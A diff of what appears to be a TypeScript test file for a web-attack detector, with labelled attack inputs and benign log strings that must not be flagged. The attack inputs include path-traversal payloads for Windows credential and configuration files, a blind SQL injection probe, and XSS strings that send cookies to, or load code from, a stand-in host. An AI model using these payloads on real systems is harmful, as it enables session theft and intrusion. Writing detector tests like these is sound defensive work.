@@ -45,11 +45,11 @@ const attacks: ReadonlyArray<[FindingClass, string, string]> = [
   ['path-traversal', 'Windows answer file', '{"f":"c:/windows/panther/unattend.xml"}'],
   ['path-traversal', 'MySQL on Windows', '{"f":"c:/programdata/mysql/my.ini"}'],
   ['path-traversal', 'IIS-lenient overlong backslash', '{"f":"..%c1%1c..%c1%1c..%c1%1cboot.ini"}'],
-  ['sqli', 'a query string value in numeric context', 'GET /q?zone=7&id=12 or 1=1&fmt=csv'],
   ['xss', 'breaking out of a JS string', '{"m":"\'-fetch(\'//198.51.100.7/?\'+document.cookie)-\'"}'],
   ['xss', 'redirecting the page', '{"m":"window.location=\'//198.51.100.7/\'"}'],
   ['xss', 'CSS behavior', '{"m":"<b style=\\"behavior:url(//198.51.100.7/x.htc)\\">"}'],
   ['xss', 'SVG data URI, + decoded to a space', '{"u":"data:image/svg+xml;base64,PHN2Zz4="}'],
+  ['sqli', 'a query string value in numeric context', 'GET /q?zone=7&id=12 or length(pw)>2&fmt=csv'],
 ];
 
 const benign: readonly string[] = [
@@ -62,6 +62,10 @@ const benign: readonly string[] = [
   '{"n":"please restart the service later\\nservice desk will call back"}',
   '{"n":"maintenance window\\nsystemctl is how the unit gets restarted"}',
   '{"n":"the service stops at noon; service resumes at 2"}',
+  '{"n":"alarm cleared; service interval restart"}',
+  '{"n":"boot|service pump start|ok"}',
+  '{"n":"maintenance & service window start 02:00"}',
+  '{"log":"fan check\\nservice fan stop"}',
   'GET /report?range=20 or 30&order=by date',
   '{"msg":"uses a regular expression (regex) to parse"}',
   '{"cfg":"c2Vuc29yLWNvbmZpZy12Mg=="}',
